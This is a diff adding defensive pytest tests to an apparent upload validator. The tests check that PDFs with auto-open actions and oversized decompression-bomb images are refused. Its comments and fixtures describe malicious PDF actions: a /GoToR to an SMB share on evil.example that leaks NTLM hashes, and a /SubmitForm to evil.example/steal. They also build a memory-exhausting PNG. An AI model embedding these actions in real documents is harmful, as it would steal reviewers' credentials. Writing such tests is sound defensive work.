@@ -118,3 +118,38 @@ def test_a_decompression_bomb_is_refused_without_decoding_it():
 def test_the_refusal_names_the_file_and_says_what_to_do():
     message = _refusal(_pdf(_document_javascript), "章程（盖章）.pdf")
     assert "章程（盖章）.pdf" in message and "打印为PDF" in message
+
+
+# --- Penetration test (release after issue 11) ---------------------------------------------
+# Accepted through POST /filings/<pk>/materials/upload/ and offered to reviewers:
+# - a PDF whose /OpenAction is /GoToR to \\evil.example\share\x.pdf (a Windows reader
+#   connects to the attacker's SMB server on open and sends the reviewer's NTLM hash),
+# - /SubmitForm to http://evil.example/steal (the reader posts on open),
+# - /URI on open (the reader goes to a site of the uploader's choosing).
+# None of them is in a scan; open and additional actions that reach out are active content.
+
+
+@pytest.mark.parametrize(
+    ("kind", "entries"),
+    [
+        ("/GoToR", {"F": "\\\\evil.example\\share\\x.pdf"}),
+        ("/SubmitForm", {"F": "http://evil.example/steal"}),
+        ("/URI", {"URI": "http://evil.example/"}),
+    ],
+)
+def test_a_pdf_that_reaches_out_when_opened_is_refused(kind, entries):
+    assert _refusal(_pdf(_open_action(kind, **entries)))
+
+
+# A 343 KB PNG of 9,400 × 9,400 RGBA pixels (under Pillow's 89 MP warning) was accepted:
+# decoding it to check it took ~340 MB of a worker's memory and 3–4 s, per upload, and a
+# lead unit may send eight at once. A scan of A3 at 300 dpi is ~17 MP.
+
+
+def test_an_image_too_large_to_decode_safely_is_refused():
+    from PIL import Image
+
+    out = io.BytesIO()
+    Image.new("RGBA", (9400, 9400)).save(out, "PNG")
+    assert len(out.getvalue()) < 1_000_000
+    assert "像素" in _refusal(out.getvalue(), "扫描件.png")
